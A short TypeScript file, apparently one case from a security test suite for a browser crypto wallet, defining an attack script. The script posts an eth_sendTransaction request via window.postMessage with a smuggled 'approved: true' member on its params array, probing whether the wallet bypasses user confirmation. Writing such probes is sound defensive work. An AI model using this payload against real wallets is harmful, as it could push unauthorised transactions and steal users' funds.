import type { Attack } from '../Attack.ts';

/** A list that has members of a request. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet',
  mechanism: 'parameters as a list with named members',
  discovers: false,
  script: `
await kit.ready();
kit.post(kit.rpc({ method: 'eth_sendTransaction', params: Object.assign([kit.tx()], { approved: true }) }));
`,
};
